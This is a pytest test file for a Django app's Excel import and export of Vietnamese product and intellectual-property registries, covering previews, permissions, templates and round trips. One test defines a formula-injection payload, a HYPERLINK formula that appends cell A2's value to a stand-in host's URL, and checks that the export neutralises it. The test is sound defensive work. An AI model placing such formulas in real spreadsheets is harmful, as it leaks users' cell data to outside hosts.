"""Excel import of the registries: preview, all-or-nothing confirm, permissions, template and export."""

import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from stims.core.imports import import_dir
from stims.ip.models import IpAsset, IpStatus, IpType
from stims.products.models import OcopEvaluation, Product, ProductGroup
from stims.testing import import_queries, make_user, unit, xlsx_upload

pytestmark = pytest.mark.django_db

HEADERS = [
    "Tên sản phẩm",
    "Nhóm sản phẩm",
    "Loại chủ thể",
    "Chủ thể",
    "Đơn vị hành chính",
    "Tỉnh",
    "Giai đoạn",
    "Sản phẩm chủ lực",
    "Năm đánh giá",
    "Điểm A",
    "Điểm B",
    "Điểm C",
    "Số quyết định",
    "Ngày quyết định",
]


def workbook(rows, headers=HEADERS) -> SimpleUploadedFile:
    return xlsx_upload(headers, rows)


def product_row(name, unit_name="Huyện Ba Chẽ", *, group="nhom-thu-nhap", score_a=30, year=2024):
    return [
        name,
        group,
        "Hộ gia đình",
        "Hộ bà Lý Thị Mai",
        unit_name,
        "Quảng Ninh",
        "trước 2025",
        "có",
        year,
        score_a,
        20,
        25,
        "12/QĐ-UBND",
        "15/12/2024",
    ]


@pytest.fixture(autouse=True)
def uploads(settings, tmp_path):
    """Each test's uploads in its own folder (parallel workers' users share ids)."""
    settings.MEDIA_ROOT = tmp_path / "uploads"
    return settings.MEDIA_ROOT


@pytest.fixture
def group():
    return ProductGroup.objects.get_or_create(code="nhom-thu-nhap", defaults={"name": "Nhóm thử nhập"})[0]


@pytest.fixture
def specialist():
    return make_user("specialist")


def client_for(client, user):
    client.force_login(user)
    return client


def preview(client, rows, kind="products", **kwargs):
    return client.post(reverse("registries:import"), {"kind": kind, "file": workbook(rows, **kwargs)})


def confirm(client, response):
    return client.post(reverse("registries:import_confirm"), {"token": response.context["token"]})


def test_a_good_workbook_previews_then_imports_every_row_with_history_naming_the_importer(
    client, group, specialist
):
    client_for(client, specialist)
    rows = [product_row(f"Mật ong rừng {i}") for i in range(3)]
    response = preview(client, rows)
    assert response.status_code == 200
    assert len(list(import_dir().glob(f"{specialist.pk}-*.xlsx"))) == 1
    assert response.context["outcome"].counts == {"new": 3, "update": 0, "error": 0, "skip": 0}
    assert response.context["can_confirm"]
    assert not Product.objects.filter(name__startswith="Mật ong rừng").exists()  # a preview saves nothing

    response = confirm(client, response)
    assert response.status_code == 302
    products = Product.objects.filter(name__startswith="Mật ong rừng")
    assert products.count() == 3
    product = products.get(name="Mật ong rừng 0")
    assert product.admin_unit == unit("Huyện Ba Chẽ", legacy=True)
    assert product.producer_name == "Hộ bà Lý Thị Mai" and product.is_key_product and product.is_ocop
    evaluation = product.evaluations.get()
    assert (evaluation.year, evaluation.total_score, evaluation.decision_date.isoformat()) == (
        2024,
        Decimal("75"),
        "2024-12-15",
    )
    assert product.history.get().history_user == specialist
    assert evaluation.history.get().history_user == specialist
    assert "registries_import" not in client.session
    assert not list(import_dir().glob(f"{specialist.pk}-*.xlsx"))  # the kept upload is removed after confirm


def test_bad_rows_show_their_errors_cell_by_cell_and_nothing_is_written(client, group, specialist):
    client_for(client, specialist)
    rows = [
        product_row("Trà hoa vàng"),
        product_row("Miến dong", "Xã Không Có"),
        product_row("Chả mực", score_a=55),
        product_row("Nấm linh chi", group="Không có nhóm này"),
    ]
    before = (Product.objects.count(), OcopEvaluation.objects.count())
    response = preview(client, rows)
    outcome = response.context["outcome"]
    assert outcome.counts["error"] == 3 and not response.context["can_confirm"]
    errors = outcome.errors
    # The interface is Vietnamese: so are the row errors a user reads.
    assert any(e.startswith("Dòng 3, cột “Đơn vị hành chính”: không tìm thấy “Xã Không Có”") for e in errors)
    assert any(e.startswith("Dòng 4, cột “Điểm A”:") and "40" in e for e in errors)
    assert "Dòng 5, cột “Nhóm sản phẩm”: không tìm thấy “Không có nhóm này”" in errors
    assert b"confirm-import" not in response.content

    response = confirm(client, response)  # even if the button is forced, the confirm refuses
    assert response.status_code == 409
    assert (Product.objects.count(), OcopEvaluation.objects.count()) == before


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"Ten san pham,Don vi\nMat ong,Ba Che\n", "không phải là tệp Excel"),
        (b"PK\x03\x04broken archive" + b"\0" * 100, "bị lỗi"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, ".xls"),
    ],
)
def test_a_renamed_or_broken_file_gets_a_clear_error(client, specialist, content, message):
    client_for(client, specialist)
    response = client.post(
        reverse("registries:import"),
        {"kind": "products", "file": SimpleUploadedFile("danh-sach.xlsx", content)},
    )
    assert response.status_code == 400
    assert message in " ".join(response.context["form"].errors["file"])


def test_a_workbook_without_the_expected_columns_is_refused_before_any_row(client, specialist):
    client_for(client, specialist)
    response = preview(client, [["x"]], headers=["Tên"])
    assert response.status_code == 400
    assert "Tên sản phẩm" in " ".join(response.context["form"].errors["file"])


def test_a_local_officer_cannot_import_a_row_of_another_district(client, group):
    officer = make_user("local_officer", admin_unit=unit("Huyện Ba Chẽ", legacy=True))
    client_for(client, officer)
    response = preview(client, [product_row("Miến dong"), product_row("Dầu sở", "Huyện Bình Liêu")])
    outcome = response.context["outcome"]
    assert [r.status for r in outcome.rows] == ["new", "error"]
    [error] = outcome.errors
    assert error.startswith(
        "Dòng 3, cột “Đơn vị hành chính”: bạn không được thêm bản ghi cho “Huyện Bình Liêu, Tỉnh Quảng Ninh"
    )
    assert not response.context["can_confirm"]


def test_a_viewer_may_not_import(client, group):
    client_for(client, make_user("viewer"))
    assert client.get(reverse("registries:import")).status_code == 403
    assert preview(client, [product_row("Miến dong")]).status_code == 403
    assert client.get(reverse("registries:import_template", args=["products"])).status_code == 403


def test_export_then_import_updates_instead_of_duplicating(client, group, specialist):
    client_for(client, specialist)
    confirm(client, preview(client, [product_row("Mật ong rừng"), product_row("Ba kích tím")]))
    count = Product.objects.count()

    exported = client.get(reverse("registries:import_export", args=["products"]))
    assert exported.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(exported.content))
    sheet = book.active
    headers = [c.value for c in sheet[1]]
    rows = [list(r) for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert {r[0] for r in rows} >= {"Mật ong rừng", "Ba kích tím"}
    for row in rows:
        if row[0] == "Mật ong rừng":
            row[headers.index("Điểm C")] = 30
            row[headers.index("Sản phẩm chủ lực")] = "không"

    response = preview(client, rows, headers=headers)
    assert response.context["outcome"].counts["update"] == len(rows)
    confirm(client, response)
    assert Product.objects.count() == count
    product = Product.objects.get(name="Mật ong rừng")
    assert not product.is_key_product
    assert product.evaluations.get().total_score == Decimal("80")


def test_the_template_has_the_headers_and_an_example_row_that_imports(client, group, specialist):
    client_for(client, specialist)
    response = client.get(reverse("registries:import_template", args=["products"]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    headers = [c.value for c in sheet[1]]
    assert headers[:5] == ["Tên sản phẩm", "Nhóm sản phẩm", "Loại chủ thể", "Chủ thể", "Đơn vị hành chính"]
    example = [c.value for c in sheet[2]]
    response = preview(client, [example], headers=headers)
    assert response.context["outcome"].errors == [
        "Dòng 2: đây là dòng mẫu của tệp mẫu: hãy xoá dòng này hoặc thay bằng một bản ghi thật"
    ]
    example[0] = "Mật ong rừng Đồn Đạc"  # the example filled in with a real product imports
    response = preview(client, [example], headers=headers)
    assert response.context["outcome"].counts["new"] == 1, response.context["outcome"].errors


def test_ip_assets_import_and_a_second_import_updates_by_application_number(client, specialist):
    client_for(client, specialist)
    ip_type = IpType.objects.get_or_create(code="trademark", defaults={"name": "Nhãn hiệu"})[0]
    status = IpStatus.objects.get_or_create(code="filed", defaults={"name": "Đã nộp đơn"})[0]
    headers = [
        "Loại đối tượng",
        "Tên đối tượng",
        "Chủ sở hữu",
        "Đơn vị hành chính",
        "Số đơn",
        "Ngày nộp đơn",
        "Tình trạng",
    ]
    row = [
        ip_type.code,
        "Miến dong Bình Liêu",
        "HTX Miến dong",
        "Xã Bình Liêu",
        "4-2023-01234",
        "01/03/2023",
        status.name,
    ]
    response = preview(client, [row], kind="ip", headers=headers)
    assert response.context["outcome"].counts["new"] == 1, response.context["outcome"].errors
    confirm(client, response)
    asset = IpAsset.objects.get(application_number="4-2023-01234")
    assert asset.owner_name == "HTX Miến dong" and asset.status_events.count() == 1
    assert asset.history.get().history_user == specialist

    row[1] = "Miến dong Bình Liêu (sửa)"
    response = preview(client, [row], kind="ip", headers=headers)
    assert response.context["outcome"].counts["update"] == 1
    confirm(client, response)
    assert IpAsset.objects.filter(application_number="4-2023-01234").count() == 1


def test_an_import_cannot_move_an_asset_out_of_a_final_status(client, specialist):
    """A spreadsheet obeys the same status workflow as the asset page (ip.services)."""
    client_for(client, specialist)
    ip_type = IpType.objects.get(code="trademark")
    filed, refused = IpStatus.objects.get(code="filed"), IpStatus.objects.get(is_final=True, code="refused")
    headers = [
        "Loại đối tượng",
        "Tên đối tượng",
        "Chủ sở hữu",
        "Đơn vị hành chính",
        "Số đơn",
        "Ngày nộp đơn",
        "Tình trạng",
    ]
    row = [
        ip_type.code,
        "Chè Bình Liêu",
        "HTX Chè",
        "Xã Bình Liêu",
        "4-2023-07777",
        "01/03/2023",
        refused.name,
    ]
    confirm(client, preview(client, [row], kind="ip", headers=headers))
    asset = IpAsset.objects.get(application_number="4-2023-07777")
    assert asset.status == refused

    row[6] = filed.name
    response = preview(client, [row], kind="ip", headers=headers)
    assert response.context["outcome"].counts["error"] == 1
    assert confirm(client, response).status_code == 409  # refused: the rows still have errors
    asset.refresh_from_db()
    assert asset.status == refused


INJECTED = '=HYPERLINK("http://example.invalid/?"&A2,"Click")'


def test_the_export_workbook_writes_a_formula_like_name_as_text_and_it_imports_back_unchanged(
    client, group, specialist
):
    client_for(client, specialist)
    confirm(client, preview(client, [product_row(n) for n in ("Mật ong rừng", "Ba kích tím", "Miến dong")]))
    # As a user could type them on the product form (a workbook cell holding them would be a formula).
    for old, new in (("Mật ong rừng", INJECTED), ("Ba kích tím", "+84 Mật ong"), ("Miến dong", "@Ba kích")):
        Product.objects.filter(name=old).update(name=new)

    exported = client.get(reverse("registries:import_export", args=["products"]))
    sheet = openpyxl.load_workbook(io.BytesIO(exported.content)).active
    cells = {row[0].value: row[0] for row in sheet.iter_rows(min_row=2)}
    for name in (INJECTED, "+84 Mật ong", "@Ba kích"):
        assert cells[name].data_type == "s" and cells[name].quotePrefix, name
    # The exported file itself, uploaded again, reads back as it was written: three updates.
    again = SimpleUploadedFile("export.xlsx", exported.content)
    response = client.post(reverse("registries:import"), {"kind": "products", "file": again})
    assert response.context["outcome"].counts["update"] == 3


def test_an_application_number_of_another_district_reads_like_a_row_the_officer_may_not_add(client, group):
    """One workbook of application numbers must not name the assets of other districts."""
    ip_type = IpType.objects.get_or_create(code="trademark", defaults={"name": "Nhãn hiệu"})[0]
    status = IpStatus.objects.get_or_create(code="filed", defaults={"name": "Đã nộp đơn"})[0]
    IpAsset.objects.create(
        ip_type=ip_type,
        status=status,
        name="Miến dong Bình Liêu bí mật",
        owner_name="HTX Miến dong",
        admin_unit=unit("Huyện Bình Liêu", legacy=True),
        application_number="4-2023-09999",
    )
    client_for(client, make_user("local_officer", admin_unit=unit("Huyện Ba Chẽ", legacy=True)))
    headers = ["Loại đối tượng", "Tên đối tượng", "Chủ sở hữu", "Đơn vị hành chính", "Số đơn", "Tình trạng"]
    row = [ip_type.code, "Trà hoa vàng", "HTX Trà", "Huyện Ba Chẽ", "4-2023-09999", status.name]
    response = preview(client, [row], kind="ip", headers=headers)
    [error] = response.context["outcome"].errors
    assert error == (
        "Dòng 2: Bạn chỉ được lưu bản ghi thuộc đơn vị hành chính hoặc cơ quan, tổ chức của mình."
    )
    assert "Miến dong Bình Liêu" not in response.content.decode()
    assert not response.context["can_confirm"]


IP_HEADERS = [
    "Loại đối tượng",
    "Tên đối tượng",
    "Chủ sở hữu",
    "Đơn vị hành chính",
    "Số đơn",
    "Ngày nộp đơn",
    "Tình trạng",
]


def test_checking_and_writing_twice_the_rows_costs_no_more_queries(group, specialist):
    """Units, groups, producers, records on record: looked up once per workbook, written in batches of
    500 (issue #20: an import of 100,000 rows must not ask the database once per row)."""
    IpType.objects.get_or_create(code="trademark", defaults={"name": "Nhãn hiệu"})
    IpStatus.objects.get_or_create(code="filed", defaults={"name": "Đã nộp đơn"})

    def products(n, start):
        return [product_row(f"Mật ong rừng số {i}") for i in range(start, start + n)]

    def assets(n, start):
        return [
            [
                "trademark",
                f"Nhãn hiệu số {i}",
                "HTX Miến dong",
                "Huyện Ba Chẽ",
                f"4-2023-{i:05d}",
                "01/03/2023",
                "Đã nộp đơn",
            ]
            for i in range(start, start + n)
        ]

    import_queries(specialist, "products", HEADERS, products(1, 0))  # warm the per-process caches
    assert import_queries(specialist, "products", HEADERS, products(5, 10)) == import_queries(
        specialist, "products", HEADERS, products(10, 20)
    )
    import_queries(specialist, "ip", IP_HEADERS, assets(1, 0))
    assert import_queries(specialist, "ip", IP_HEADERS, assets(5, 10)) == import_queries(
        specialist, "ip", IP_HEADERS, assets(10, 20)
    )
